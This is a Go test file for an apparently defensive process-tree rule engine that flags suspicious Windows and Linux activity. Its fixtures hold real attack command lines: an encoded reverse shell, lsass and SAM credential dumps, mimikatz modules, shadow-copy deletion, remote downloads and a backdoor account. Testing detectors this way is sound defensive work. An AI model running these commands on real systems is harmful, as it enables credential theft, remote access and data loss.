package proctree

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// rp describes one process of a hand-made tree; parent is an index into the
// same list (-1 for a root).
type rp struct {
	name, parentName, cmd, user string
	parent                      int
	inferred                    bool
}

func ruleTree(ps ...rp) *Tree {
	t := &Tree{Procs: make([]Proc, len(ps))}
	for i, p := range ps {
		row := i
		if p.inferred {
			row = -1
		}
		t.Procs[i] = Proc{Row: row, Name: p.name, ParentName: p.parentName, CmdLine: p.cmd, User: p.user,
			Parent: p.parent, Inferred: p.inferred}
	}
	for i, p := range ps {
		if p.parent >= 0 && p.parent < len(ps) {
			t.Procs[p.parent].Children = append(t.Procs[p.parent].Children, i)
		} else {
			t.Roots = append(t.Roots, i)
		}
	}
	return t
}

func markNames(p *Proc) []string {
	out := []string{}
	for _, m := range p.Marks {
		out = append(out, m.Rule)
	}
	return out
}

// Frequent images.
const (
	cmdExe   = `C:\Windows\System32\cmd.exe`
	psExe    = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	rundll   = `C:\Windows\System32\rundll32.exe`
	winword  = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	explorer = `C:\Windows\explorer.exe`
	javaLx   = `/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java`
	schtasks = `C:\Windows\System32\schtasks.exe`
	certutil = `C:\Windows\System32\certutil.exe`
	vssadmin = `C:\Windows\System32\vssadmin.exe`
)

var wantDefaultSeverity = map[string]string{
	"encoded-powershell":        "high",
	"office-spawns-lolbin":      "high",
	"browser-spawns-lolbin":     "medium",
	"image-in-temp-or-public":   "medium",
	"image-in-programdata":      "low",
	"proxy-execution-rundll32":  "high",
	"proxy-execution-mshta":     "high",
	"proxy-execution-regsvr32":  "high",
	"shell-under-server":        "high",
	"shell-under-node":          "medium",
	"credential-dumping":        "high",
	"shadow-copy-delete":        "high",
	"shadow-copy-create":        "medium",
	"certutil-download":         "high",
	"certutil-decode":           "medium",
	"bitsadmin-transfer":        "medium",
	"wmic-process-create":       "medium",
	"schtasks-remote-create":    "high",
	"schtasks-create-temp-path": "high",
}

func TestDefaultRulesLoad(t *testing.T) {
	r, err := LoadRules(defaultRulesYAML)
	if err != nil {
		t.Fatalf("embedded rules.yaml: %v", err)
	}
	if DefaultRules() != DefaultRules() {
		t.Error("DefaultRules compiles the rules more than once")
	}
	if got, want := r.Names(), DefaultRules().Names(); !slices.Equal(got, want) {
		t.Errorf("names %v, DefaultRules %v", got, want)
	}
	if len(r.rules) != len(wantDefaultSeverity) {
		t.Errorf("%d rules, want %d: %v", len(r.rules), len(wantDefaultSeverity), r.Names())
	}
	for _, ru := range r.rules {
		name := ru.src.Name
		if want, ok := wantDefaultSeverity[name]; !ok {
			t.Errorf("unexpected rule %q", name)
		} else if ru.mark.Severity != want {
			t.Errorf("%s: severity %q, want %q", name, ru.mark.Severity, want)
		}
		if ru.mark.Rule != name || ru.mark.Severity != ru.src.Severity || ru.mark.Description != ru.src.Description {
			t.Errorf("%s: mark %+v does not match the rule", name, ru.mark)
		}
		if len(ru.src.Description) < 80 || strings.Contains(ru.src.Description, "\n") {
			t.Errorf("%s: description %q: want a sentence or more, folded on one line", name, ru.src.Description)
		}
		switch ru.src.Severity {
		case "low", "medium", "high":
		default:
			t.Errorf("%s: severity %q", name, ru.src.Severity)
		}
	}
}

// Hand-made trees: which default rules mark the process at index at (exactly,
// in rule order).
func TestMarkDefaults(t *testing.T) {
	cases := []struct {
		name  string
		procs []rp
		at    int
		want  []string
	}{
		{"powershell -NoProfile is quiet",
			[]rp{{name: psExe, cmd: `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\scripts\inventory.ps1`, parent: -1}},
			0, nil},
		{"powershell -enc",
			[]rp{{name: psExe, cmd: `powershell -enc SQBFAFgA`, parent: -1}},
			0, []string{"encoded-powershell"}},
		{"winword starts cmd",
			[]rp{{name: winword, parent: -1}, {name: cmdExe, cmd: `cmd.exe /c whoami`, parent: 0}},
			1, []string{"office-spawns-lolbin"}},
		{"explorer starts cmd",
			[]rp{{name: explorer, parent: -1}, {name: cmdExe, cmd: `"C:\Windows\system32\cmd.exe"`, parent: 0}},
			1, nil},
		{"winword itself is not marked",
			[]rp{{name: winword, parent: -1}, {name: cmdExe, parent: 0}},
			0, nil},
		{"outlook starts a program in Users\\Public: marks in rule order",
			[]rp{{name: `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, parent: -1},
				{name: `C:\Users\Public\cmd.exe`, parent: 0}},
			1, []string{"office-spawns-lolbin", "image-in-temp-or-public"}},
		{"chrome starts mshta on a local hta",
			[]rp{{name: `C:\Program Files\Google\Chrome\Application\chrome.exe`, parent: -1},
				{name: `C:\Windows\System32\mshta.exe`, cmd: `"C:\Windows\System32\mshta.exe" "C:\Users\bob\Downloads\invoice.hta"`, parent: 0}},
			1, []string{"browser-spawns-lolbin"}},
		{"java starts bash",
			[]rp{{name: javaLx, parent: -1}, {name: `/bin/bash`, cmd: `bash -i`, parent: 0}},
			1, []string{"shell-under-server"}},
		{"java → sh → bash: bash two levels down",
			[]rp{{name: javaLx, parent: -1}, {name: `/bin/sh`, cmd: `sh -c ./run.sh`, parent: 0}, {name: `/bin/bash`, cmd: `bash ./run.sh`, parent: 1}},
			2, []string{"shell-under-server"}},
		{"java → sh → id: id is no shell",
			[]rp{{name: javaLx, parent: -1}, {name: `/bin/sh`, parent: 0}, {name: `/usr/bin/id`, cmd: `id`, parent: 1}},
			2, nil},
		{"bash → java: the shell above the server is not below it",
			[]rp{{name: `/bin/bash`, parent: -1}, {name: javaLx, parent: 0}},
			0, nil},
		{"nginx → php-fpm7.4 → sh (glob ancestor)",
			[]rp{{name: `/usr/sbin/nginx`, parent: -1}, {name: `/usr/sbin/php-fpm7.4`, parent: 0}, {name: `/bin/sh`, cmd: `sh -c id`, parent: 1}},
			2, []string{"shell-under-server"}},
		{"w3wp → cmd",
			[]rp{{name: `C:\Windows\System32\inetsrv\w3wp.exe`, parent: -1}, {name: cmdExe, cmd: `cmd /c "cd /d C:\inetpub\wwwroot&whoami"`, parent: 0}},
			1, []string{"shell-under-server"}},
		{"node → sh",
			[]rp{{name: `/usr/bin/node`, parent: -1}, {name: `/bin/sh`, cmd: `sh -c npm run build`, parent: 0}},
			1, []string{"shell-under-node"}},
		{"rundll32 with an http URL",
			[]rp{{name: rundll, cmd: `rundll32.exe url.dll,OpenURL http://198.51.100.7/a.hta`, parent: -1}},
			0, []string{"proxy-execution-rundll32"}},
		{"rundll32 shell32.dll,Control_RunDLL is quiet",
			[]rp{{name: rundll, cmd: `C:\Windows\System32\rundll32.exe shell32.dll,Control_RunDLL C:\Windows\System32\desk.cpl`, parent: -1}},
			0, nil},
		{"comsvcs MiniDump of lsass (the command psh_lsass_memory_dump_comsvcs emulates)",
			[]rp{{name: rundll, cmd: `C:\Windows\System32\rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 600 C:\Windows\Temp\lsass.dmp full`, parent: -1}},
			0, []string{"credential-dumping"}},
		{"comsvcs by ordinal",
			[]rp{{name: rundll, cmd: `rundll32.exe comsvcs.dll,#24 624 C:\x.dmp full`, parent: -1}},
			0, []string{"credential-dumping"}},
		{"image in C:\\Users\\Public",
			[]rp{{name: `C:\Users\Public\Downloads\update.exe`, parent: -1}},
			0, []string{"image-in-temp-or-public"}},
		{"image in /dev/shm",
			[]rp{{name: `/dev/shm/.x/kworker`, parent: -1}},
			0, []string{"image-in-temp-or-public"}},
		{"Defender under ProgramData: low only",
			[]rp{{name: `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24010.12-0\MsMpEng.exe`, parent: -1}},
			0, []string{"image-in-programdata"}},
		{"system binary: quiet",
			[]rp{{name: `C:\Windows\System32\svchost.exe`, cmd: `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, parent: -1}},
			0, nil},
		{"inferred parent: its Name is the parent's",
			[]rp{{name: `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, parent: -1, inferred: true},
				{name: cmdExe, parent: 0}},
			1, []string{"office-spawns-lolbin"}},
		{"inferred parent: the child's ParentName wins over a made-up name",
			[]rp{{name: "unknown", parent: -1, inferred: true},
				{name: cmdExe, parentName: `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, parent: 0}},
			1, []string{"office-spawns-lolbin"}},
		{"no parent in the tree: ParentName",
			[]rp{{name: cmdExe, parentName: `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, parent: -1}},
			0, []string{"office-spawns-lolbin"}},
		{"no parent in the tree: ParentName counts as an ancestor",
			[]rp{{name: `/bin/bash`, parentName: javaLx, parent: -1}, {name: `/bin/bash`, parent: 0}},
			1, []string{"shell-under-server"}},
		{"a real parent's Name beats the child's ParentName",
			[]rp{{name: explorer, parent: -1}, {name: cmdExe, parentName: winword, parent: 0}},
			1, nil},
		{"ancestry passes through an inferred parent",
			[]rp{{name: `C:\Program Files\Java\jre1.8.0_301\bin\java.exe`, parent: -1, inferred: true},
				{name: cmdExe, parent: 0}, {name: psExe, cmd: `powershell -c whoami`, parent: 1}},
			2, []string{"shell-under-server"}},
		{"empty image name",
			[]rp{{name: "", cmd: "", parent: -1}},
			0, nil},
		{"regsvr32 per-user Active Setup /i:U is quiet",
			[]rp{{name: `C:\Windows\System32\regsvr32.exe`, cmd: `regsvr32.exe /s /n /i:U shell32.dll`, parent: -1}},
			0, nil},
		{"schtasks creating a local task from Program Files is quiet",
			[]rp{{name: schtasks, cmd: `schtasks /create /tn Backup /tr "C:\Program Files\Backup\backup.exe" /sc daily /st 02:00`, parent: -1}},
			0, nil},
		{"schtasks task in AppData\\Local\\Temp",
			[]rp{{name: schtasks, cmd: `schtasks /create /tn upd /tr "C:\Users\bob\AppData\Local\Temp\upd.exe" /sc onlogon`, parent: -1}},
			0, []string{"schtasks-create-temp-path"}},
		{"schtasks remote task, /s before /create",
			[]rp{{name: schtasks, cmd: `schtasks /s 10.0.0.5 /u corp\admin /create /tn x /tr c:\x.exe /sc once /st 00:00`, parent: -1}},
			0, []string{"schtasks-remote-create"}},
		{"vssadmin list shadows is quiet",
			[]rp{{name: vssadmin, cmd: `vssadmin list shadows`, parent: -1}},
			0, nil},
		{"vssadmin create shadow",
			[]rp{{name: vssadmin, cmd: `vssadmin create shadow /for=C:`, parent: -1}},
			0, []string{"shadow-copy-create"}},
		{"wmic shadowcopy delete",
			[]rp{{name: `C:\Windows\System32\wbem\WMIC.exe`, cmd: `wmic shadowcopy delete /nointeractive`, parent: -1}},
			0, []string{"shadow-copy-delete"}},
		{"wmic process call create on another host",
			[]rp{{name: `C:\Windows\System32\wbem\WMIC.exe`, cmd: `wmic /node:10.0.0.7 process call create "cmd.exe /c c:\x.bat"`, parent: -1}},
			0, []string{"wmic-process-create"}},
		{"bitsadmin /transfer",
			[]rp{{name: `C:\Windows\System32\bitsadmin.exe`, cmd: `bitsadmin /transfer job /download /priority high http://198.51.100.7/a.exe C:\Users\bob\a.exe`, parent: -1}},
			0, []string{"bitsadmin-transfer"}},
		{"procdump -ma lsass",
			[]rp{{name: `C:\Tools\procdump64.exe`, cmd: `procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\l.dmp`, parent: -1}},
			0, []string{"credential-dumping"}},
		{"procdump of another process is quiet",
			[]rp{{name: `C:\Tools\procdump64.exe`, cmd: `procdump64.exe -accepteula -ma w3wp.exe C:\dumps\w3wp.dmp`, parent: -1}},
			0, nil},
		{"renamed mimikatz by its modules",
			[]rp{{name: `C:\Users\bob\m.exe`, cmd: `m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`, parent: -1}},
			0, []string{"credential-dumping"}},
		{"mimikatz module spelt with a non-ASCII look-alike (the Kelvin sign folds to k)",
			[]rp{{name: `C:\Users\bob\m.exe`, cmd: "m.exe se\u212Aurlsa::logonpasswords", parent: -1}},
			0, []string{"credential-dumping"}},
		{"reg save hklm\\sam",
			[]rp{{name: `C:\Windows\System32\reg.exe`, cmd: `reg save HKLM\SAM C:\Windows\Temp\sam.save /y`, parent: -1}},
			0, []string{"credential-dumping"}},
		{"reg export of a SYSTEM subkey is quiet",
			[]rp{{name: `C:\Windows\System32\reg.exe`, cmd: `reg export hklm\system\currentcontrolset\services\foo foo.reg`, parent: -1}},
			0, nil},
		{"ntdsutil ifm",
			[]rp{{name: `C:\Windows\System32\ntdsutil.exe`, cmd: `ntdsutil "ac i ntds" "ifm" "create full c:\ifm" q q`, parent: -1}},
			0, []string{"credential-dumping"}},
	}
	rules := DefaultRules()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			tr := ruleTree(c.procs...)
			rules.Mark(tr)
			got := markNames(&tr.Procs[c.at])
			want := c.want
			if want == nil {
				want = []string{}
			}
			if !slices.Equal(got, want) {
				t.Errorf("marks %v, want %v", got, want)
			}
			for _, m := range tr.Procs[c.at].Marks {
				if m.Severity != wantDefaultSeverity[m.Rule] || m.Description == "" {
					t.Errorf("mark %+v", m)
				}
			}
		})
	}
}

// Every spelling PowerShell takes for -EncodedCommand.
func TestEncodedPowerShellSwitches(t *testing.T) {
	var fire []string
	const full = "encodedcommand"
	for n := 1; n <= len(full); n++ {
		for _, dash := range []string{"-", "/", "\u2013"} {
			fire = append(fire, "powershell.exe -NoP "+dash+full[:n]+" SQBFAFgA")
		}
	}
	fire = append(fire,
		`powershell -EncodedCommand SQBFAFgA`,
		`powershell -ec SQBFAFgA`,
		`POWERSHELL.EXE /ENC SQBFAFgA`,
		`powershell.exe -NoP -sta -NonI -W Hidden "-Enc" SQBFAFgA`,
		`powershell -c "IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('SQBFAFgA')))"`,
	)
	quiet := []string{
		`powershell.exe -NoProfile`,
		`powershell.exe -ExecutionPolicy Bypass -File C:\scripts\x.ps1`,
		`pwsh -ep bypass -f x.ps1`,
		`powershell -Command "Get-ChildItem -Exclude *.tmp"`,
		`powershell -File C:\scripts\encode.ps1`,
		`powershell -ErrorAction Stop -Command Get-Date`,
		`powershell -EncodedCommandX SQBFAFgA`,
		`powershell -ea SQBFAFgA`,
	}
	rules := DefaultRules()
	for _, images := range [][2]string{{psExe, "powershell"}, {`/usr/bin/pwsh`, "pwsh"}, {`C:\Program Files\PowerShell\7\pwsh.exe`, "pwsh.exe"}} {
		for _, cmd := range fire {
			tr := ruleTree(rp{name: images[0], cmd: cmd, parent: -1})
			rules.Mark(tr)
			if got := markNames(&tr.Procs[0]); !slices.Equal(got, []string{"encoded-powershell"}) {
				t.Errorf("%s %q: marks %v, want encoded-powershell", images[1], cmd, got)
			}
		}
		for _, cmd := range quiet {
			tr := ruleTree(rp{name: images[0], cmd: cmd, parent: -1})
			rules.Mark(tr)
			if got := markNames(&tr.Procs[0]); len(got) != 0 {
				t.Errorf("%s %q: marks %v, want none", images[1], cmd, got)
			}
		}
	}
	// The switch on another program's command line is not PowerShell's.
	tr := ruleTree(rp{name: `C:\Tools\7z.exe`, cmd: `7z.exe a -enc x.7z`, parent: -1})
	rules.Mark(tr)
	if got := markNames(&tr.Procs[0]); len(got) != 0 {
		t.Errorf("7z -enc: marks %v", got)
	}
}

// Command lines copied from the demo data (testdata/demo/sources: OTRF
// Security-Datasets and msticpy test data, MIT, see testdata/demo/NOTICE.md).
func TestMarkDemoCommandLines(t *testing.T) {
	const tomcat = `C:\ProgramData\chocolatey\lib\Tomcat\tools\apache-tomcat-9.0.62\bin\tomcat9.exe`
	cases := []struct {
		source string
		procs  []rp
		want   [][]string // marks of each process
	}{
		{"sysmon_log4shell_cve2021_44228_java_serialized_object: Tomcat starts an -Enc stager",
			[]rp{{name: tomcat, parent: -1},
				{name: psExe, parent: 0, cmd: `powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc SQBmACgAJABQAFMAVgBlAHIAcwBpAG8AbgBUAGEAYgBsAGUALgBQAFMAVgBlAHIAcwBpAG8AbgAuAE0AYQBqAG8AcgAgAC0AZwBlACAAMwApAHsAJABSAGU`}},
			[][]string{{"image-in-programdata"}, {"encoded-powershell", "shell-under-server"}}},
		{"syslog_sysmon_log4shell_cve2021_44228_jndi_reference: java starts bash, bash starts base64",
			[]rp{{name: javaLx, parent: -1},
				{name: `/bin/bash`, parent: 0, cmd: `bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}`},
				{name: `/bin/bash`, parent: 1, cmd: `bash -i`},
				{name: `/usr/bin/base64`, parent: 1, cmd: `base64 -d`}},
			[][]string{{}, {"shell-under-server"}, {"shell-under-server"}, {}}},
		{"psh_lsass_memory_dump_comsvcs: rundll32 comsvcs.dll MiniDump",
			[]rp{{name: psExe, parent: -1, cmd: psExe + ` `},
				{name: rundll, parent: 0, cmd: `"C:\Windows\System32\rundll32.exe" C:\windows\System32\comsvcs.dll MiniDump 756 C:\Users\wardog\AppData\Local\Temp\lsass-comsvcs.dmp full`}},
			[][]string{{}, {"credential-dumping"}}},
		{"cmd_mshta_vbscript_execute_psh: mshta vbscript:Execute",
			[]rp{{name: cmdExe, parent: -1},
				{name: `C:\Windows\System32\mshta.exe`, parent: 0, cmd: `mshta  vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -noexit -command Get-Service sysmon"":close")`},
				{name: psExe, parent: 1, cmd: `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -noexit -command Get-Service sysmon`}},
			[][]string{{}, {"proxy-execution-mshta"}, {}}},
		{"schtask_create: schtasks /create on WORKSTATION6",
			[]rp{{name: cmdExe, parent: -1, cmd: `"C:\Windows\system32\cmd.exe" /C schtasks /create /F /tn \Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager /tr "C:\Windows\system32\cmd.exe /C C:\Windows\System32\notepad.exe" /sc ONSTART /ru system /S WORKSTATION6`},
				{name: schtasks, parent: 0, cmd: `schtasks  /create /F /tn \Microsoft\Windows\SoftwareProtectionPlatform\EventCacheManager /tr "C:\Windows\system32\cmd.exe /C C:\Windows\System32\notepad.exe" /sc ONSTART /ru system /S WORKSTATION6`}},
			[][]string{{}, {"schtasks-remote-create"}}},
		{"processes_on_host (msticpy): the -enc one-liner, squiblydoo, certutil, vssadmin, mimikatz",
			[]rp{{name: cmdExe, parent: -1},
				{name: `C:\Diagnostics\UserTmp\powershell.exe`, parent: 0, cmd: `.\powershell  -enc JAB0ACAAPQAgACcAZABpAHIAJwA7AA0ACgAmACAAKAAnAEkAbgB2AG8AawBlACcAKwAnAC0ARQB4AHAAcgBlAHMAcwBpAG8AbgAnACkAIAAkAHQA`},
				{name: `C:\Diagnostics\UserTmp\regsvr32.exe`, parent: 0, cmd: `.\regsvr32   /s /n /u /i:http://server/file.sct scrobj.dll`},
				{name: `C:\Diagnostics\UserTmp\certutil.exe`, parent: 0, cmd: `certutil  -urlcache -split -f http://127.0.0.1/ `},
				{name: `C:\Diagnostics\UserTmp\certutil.exe`, parent: 0, cmd: `certutil  -decode delme.b64 implant.exe`},
				{name: vssadmin, parent: 0, cmd: `vssadmin  delete shadows /all /quiet`},
				{name: `C:\Diagnostics\UserTmp\mimikatz.exe`, parent: 0, cmd: `.\mimikatz.exe`},
				{name: `C:\Diagnostics\UserTmp\rundll32.exe`, parent: 0, cmd: `.\rundll32.exe  /C mshtml,RunHTMLApplication javascript:alert(tada!)`},
				{name: `C:\Diagnostics\UserTmp\rundll32.exe`, parent: 0, cmd: `.\rUnDlL32  /C ShEll32Control_RanDLL.dll`},
				{name: `C:\Windows\Temp\CC563BBE-DE32-44D3-8E35-F3FC78E72E40\DismHost.exe`, parent: 0, cmd: `C:\Windows\TEMP\CC563BBE-DE32-44D3-8E35-F3FC78E72E40\dismhost.exe {D57BA872-53C0-424D-80AE-E49112D1CF04}`},
				{name: `C:\Windows\System32\net.exe`, parent: 0, cmd: `net  user adm1nistrator Bob_testing /add`}},
			[][]string{{}, {"encoded-powershell"}, {"proxy-execution-regsvr32"}, {"certutil-download"}, {"certutil-decode"},
				{"shadow-copy-delete"}, {"credential-dumping"}, {"proxy-execution-rundll32"}, {}, {"image-in-temp-or-public"}, {}}},
	}
	rules := DefaultRules()
	for _, c := range cases {
		t.Run(c.source, func(t *testing.T) {
			tr := ruleTree(c.procs...)
			rules.Mark(tr)
			for i := range tr.Procs {
				if got := markNames(&tr.Procs[i]); !slices.Equal(got, c.want[i]) {
					t.Errorf("proc %d (%s): marks %v, want %v", i, tr.Procs[i].Name, got, c.want[i])
				}
			}
		})
	}
}

func TestMarkTreeShapes(t *testing.T) {
	rules := DefaultRules()
	t.Run("old marks are cleared", func(t *testing.T) {
		tr := ruleTree(rp{name: winword, parent: -1}, rp{name: cmdExe, parent: 0})
		for i := range tr.Procs {
			tr.Procs[i].Marks = []Mark{{Rule: "stale"}}
		}
		rules.Mark(tr)
		if tr.Procs[0].Marks != nil {
			t.Errorf("winword marks %v", tr.Procs[0].Marks)
		}
		if got := markNames(&tr.Procs[1]); !slices.Equal(got, []string{"office-spawns-lolbin"}) {
			t.Errorf("cmd marks %v", got)
		}
		var none *Rules
		none.Mark(tr)
		if tr.Procs[1].Marks != nil {
			t.Errorf("nil rules left marks %v", tr.Procs[1].Marks)
		}
		rules.Mark(nil) // no panic
	})
	t.Run("parents after their children", func(t *testing.T) {
		tr := ruleTree(rp{name: `/bin/bash`, parent: 2}, rp{name: `/bin/sh`, parent: 2}, rp{name: `/bin/sh`, parent: 3}, rp{name: javaLx, parent: -1})
		rules.Mark(tr)
		for i, want := range [][]string{{"shell-under-server"}, {"shell-under-server"}, {"shell-under-server"}, {}} {
			if got := markNames(&tr.Procs[i]); !slices.Equal(got, want) {
				t.Errorf("proc %d: marks %v, want %v", i, got, want)
			}
		}
	})
	t.Run("a parent cycle ends", func(t *testing.T) {
		tr := ruleTree(rp{name: javaLx, parent: 1}, rp{name: `/bin/bash`, parent: 0}, rp{name: `/bin/dash`, parent: 2})
		rules.Mark(tr)
		if got := markNames(&tr.Procs[1]); !slices.Equal(got, []string{"shell-under-server"}) {
			t.Errorf("bash in a cycle with java: marks %v", got)
		}
		if got := markNames(&tr.Procs[2]); len(got) != 0 {
			t.Errorf("dash its own parent: marks %v", got)
		}
	})
	t.Run("concurrent Marks share the rules", func(t *testing.T) {
		var wg sync.WaitGroup
		for g := 0; g < 4; g++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				tr := markBenchTree(5000)
				rules.Mark(tr)
				for i := range tr.Procs {
					if tr.Procs[i].Name == schtasks && len(tr.Procs[i].Marks) != 1 {
						t.Errorf("schtasks marks %v", markNames(&tr.Procs[i]))
					}
				}
			}()
		}
		wg.Wait()
	})
	t.Run("parent index out of range", func(t *testing.T) {
		tr := ruleTree(rp{name: cmdExe, parentName: winword, parent: 7})
		rules.Mark(tr)
		if got := markNames(&tr.Procs[0]); !slices.Equal(got, []string{"office-spawns-lolbin"}) {
			t.Errorf("marks %v", got)
		}
	})
}

func TestLoadRulesErrors(t *testing.T) {
	cases := []struct {
		name, yaml string
		want       []string // substrings of the error
	}{
		{"bad regexp", `
rules:
  - name: bad-re
    severity: high
    cmdline: ['ok', '(unclosed']`, []string{`rule "bad-re"`, "cmdline[1]", "missing closing )"}},
		{"bad severity", `
rules:
  - name: loud
    severity: critical
    image: [cmd.exe]`, []string{`rule "loud"`, "severity", `"critical"`}},
		{"missing severity", `
rules:
  - name: quiet
    image: [cmd.exe]`, []string{`rule "quiet"`, "severity"}},
		{"unknown field", `
rules:
  - name: typo
    severity: low
    images: [cmd.exe]`, []string{`rule "typo"`, `unknown field "images"`, "line 5"}},
		{"unknown top-level field", `
rule:
  - name: x`, []string{"field rule not found"}},
		{"no conditions", `
rules:
  - name: empty
    severity: low
    description: matches nothing`, []string{`rule "empty"`, "no conditions"}},
		{"no name", `
rules:
  - severity: low
    image: [cmd.exe]`, []string{"rule #1", "name"}},
		{"name twice", `
rules:
  - {name: a, severity: low, image: [cmd.exe]}
  - {name: a, severity: low, image: [sh]}`, []string{`rule "a"`, "twice"}},
		{"bad glob", `
rules:
  - {name: g, severity: low, parent: [x.exe, '[a-']}`, []string{`rule "g"`, "parent[1]", "glob"}},
		{"path where a base name belongs", `
rules:
  - {name: p, severity: low, image: ['C:\Windows\cmd.exe']}`, []string{`rule "p"`, "image[0]", "base name"}},
		{"string where a list belongs", `
rules:
  - {name: s, severity: low, image: cmd.exe}`, []string{`rule "s"`, "cannot unmarshal"}},
		{"rule is not a mapping", `
rules:
  - just-a-name`, []string{"rule #1", "mapping"}},
		{"empty user", `
rules:
  - {name: u, severity: low, user: ['']}`, []string{`rule "u"`, "user[0]"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r, err := LoadRules([]byte(c.yaml))
			if err == nil {
				t.Fatalf("no error, rules %v", r.Names())
			}
			for _, w := range c.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q lacks %q", err, w)
				}
			}
		})
	}
	r, err := LoadRules(nil)
	if err != nil || len(r.Names()) != 0 {
		t.Errorf("empty text: %v, %v", r.Names(), err)
	}
}

const userRulesYAML = `
rules:
  - name: tmp-image
    severity: Low
    description: Inno Setup style *.tmp programs
    image: ['*.TMP']
  - name: svc-account-shell
    severity: medium
    image: [cmd.exe]
    user: [svc_sql]
  - name: ps-download
    severity: high
    cmdline: ['downloadstring\(']
  - name: case-sensitive
    severity: low
    cmdline: ['(?-i)SECRET']
  - name: roaming
    severity: low
    path: ['\AppData\Roaming\']
`

func TestLoadRulesConditions(t *testing.T) {
	r, err := LoadRules([]byte(userRulesYAML))
	if err != nil {
		t.Fatal(err)
	}
	if got := r.Names(); !slices.Equal(got, []string{"tmp-image", "svc-account-shell", "ps-download", "case-sensitive", "roaming"}) {
		t.Fatalf("names %v", got)
	}
	tr := ruleTree(
		rp{name: `C:\Users\bob\AppData\Local\Temp\is-01DD7.tmp\tsetup.1.0.14.TMP`, parent: -1},
		rp{name: cmdExe, user: `CONTOSO\svc_sql`, parent: -1},
		rp{name: cmdExe, user: `SVC_SQL@contoso.com`, parent: -1},
		rp{name: cmdExe, user: `CONTOSO\bob`, parent: -1},
		rp{name: `C:\Windows\notepad.exe`, user: `svc_sql`, parent: -1},
		rp{name: `C:\Tools\x.exe`, cmd: `x.exe IEX (New-Object Net.WebClient).DownloadString('http://x')`, parent: -1},
		rp{name: `C:\Tools\x.exe`, cmd: `x.exe SECRET`, parent: -1},
		rp{name: `C:\Tools\x.exe`, cmd: `x.exe secret`, parent: -1},
		rp{name: `C:\Users\bob\AppData\Roaming\Updater\upd.exe`, parent: -1},
	)
	r.Mark(tr)
	want := [][]string{{"tmp-image"}, {"svc-account-shell"}, {"svc-account-shell"}, {}, {}, {"ps-download"}, {"case-sensitive"}, {}, {"roaming"}}
	for i := range tr.Procs {
		if got := markNames(&tr.Procs[i]); !slices.Equal(got, want[i]) {
			t.Errorf("proc %d (%s %s %q): marks %v, want %v", i, tr.Procs[i].Name, tr.Procs[i].User, tr.Procs[i].CmdLine, got, want[i])
		}
	}
	if m := tr.Procs[0].Marks[0]; m != (Mark{Rule: "tmp-image", Severity: "low", Description: "Inno Setup style *.tmp programs"}) {
		t.Errorf("mark %+v", m)
	}
}

func TestMerge(t *testing.T) {
	user, err := LoadRules([]byte(`
rules:
  - name: encoded-powershell
    severity: low
    description: we run encoded PowerShell from our RMM tool; keep it visible but low
    image: [powershell.exe]
    cmdline: ['\s-enc\s']
  - name: rclone
    severity: high
    description: rclone exfiltration
    image: [rclone.exe]
`))
	if err != nil {
		t.Fatal(err)
	}
	def := DefaultRules()
	merged := def.Merge(user)
	wantNames := append(def.Names(), "rclone")
	if got := merged.Names(); !slices.Equal(got, wantNames) {
		t.Fatalf("names %v, want %v", got, wantNames)
	}
	tr := ruleTree(
		rp{name: psExe, cmd: `powershell -enc SQBFAFgA`, parent: -1},
		rp{name: psExe, cmd: `powershell -ec SQBFAFgA`, parent: -1}, // the default would fire; the user's does not
		rp{name: `C:\Users\bob\rclone.exe`, cmd: `rclone.exe copy C:\data remote:`, parent: -1},
	)
	merged.Mark(tr)
	if got := tr.Procs[0].Marks; len(got) != 1 || got[0].Severity != "low" || got[0].Rule != "encoded-powershell" {
		t.Errorf("replaced rule: marks %+v", got)
	}
	if got := markNames(&tr.Procs[1]); len(got) != 0 {
		t.Errorf("-ec under the user's rule: marks %v", got)
	}
	if got := markNames(&tr.Procs[2]); !slices.Equal(got, []string{"rclone"}) {
		t.Errorf("rclone: marks %v", got)
	}
	// Neither input changed.
	def.Mark(tr)
	if got := tr.Procs[0].Marks; len(got) != 1 || got[0].Severity != "high" {
		t.Errorf("defaults after Merge: marks %+v", got)
	}
	if got := user.Names(); !slices.Equal(got, []string{"encoded-powershell", "rclone"}) {
		t.Errorf("user names after Merge %v", got)
	}
	if got := def.Merge(nil).Names(); !slices.Equal(got, def.Names()) {
		t.Errorf("Merge(nil) %v", got)
	}
	var none *Rules
	if got := none.Merge(user).Names(); !slices.Equal(got, user.Names()) {
		t.Errorf("nil.Merge %v", got)
	}
	if none.Names() != nil {
		t.Error("nil Names")
	}
}

func TestRequiredLiterals(t *testing.T) {
	cases := []struct {
		expr string
		want []string
	}{
		{`(?i)sekurlsa::`, []string{"sekurlsa::"}},
		{`(?i)\bprocdump(?:64)?(?:\.exe)?\s.*[-/]ma\s.*\blsass`, []string{"procdump"}},
		{`(?i)(?:SAVE|export)\s+hklm`, []string{"hklm"}},
		{`(?i)(?:SAVE|export)\s+x`, []string{"export", "save"}},
		{`(?i)(?:ab|cd)xyz`, []string{"abxyz", "cdxyz"}},
